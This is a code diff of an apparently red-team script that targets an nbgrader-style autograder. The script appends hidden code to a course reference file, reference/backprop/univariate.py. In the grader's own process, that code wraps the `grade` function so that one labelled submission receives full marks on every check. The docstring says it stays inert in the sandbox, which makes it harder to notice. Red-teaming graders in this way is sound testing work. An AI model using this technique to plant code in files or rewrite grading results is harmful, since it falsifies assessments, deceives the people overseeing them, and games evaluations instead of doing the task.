@@ -1,4 +1,4 @@
-"""Class 1d. In nbgrader's kernel: append code to the course's reference/backprop.py. The
+"""Class 1d. In nbgrader's kernel: append code to the course's reference/backprop/univariate.py. The
 appended code does nothing where the grader runs the reference as it should (in the
 sandbox: `autograder.batch` is not loaded there); in the grader's own process it wraps the
 grader's `grade` so that this student passes every check. Its functions are the zeros
@@ -19,8 +19,8 @@ def _redteam_hijack():
         return
     original = batch.grade
 
-    def grade(student, oracles, label, exercises=None):
-        result = original(student, oracles, label, exercises)
+    def grade(student, oracles, label, *args, **kwargs):
+        result = original(student, oracles, label, *args, **kwargs)
         if label == "k4_append_reference":
             for ex in result.exercises:
                 ex.verdicts = [dataclasses.replace(v, points=v.max_points, passed=True) for v in ex.verdicts]
@@ -32,6 +32,6 @@ def _redteam_hijack():
 _redteam_hijack()
 '''
 if _COURSE is not None:
-    with open(_COURSE / "reference" / "backprop.py", "a") as _f:
+    with open(_COURSE / "reference" / "backprop" / "univariate.py", "a") as _f:
         _f.write(_APPENDED)
     print("REDTEAM-KERNEL: reference appended")
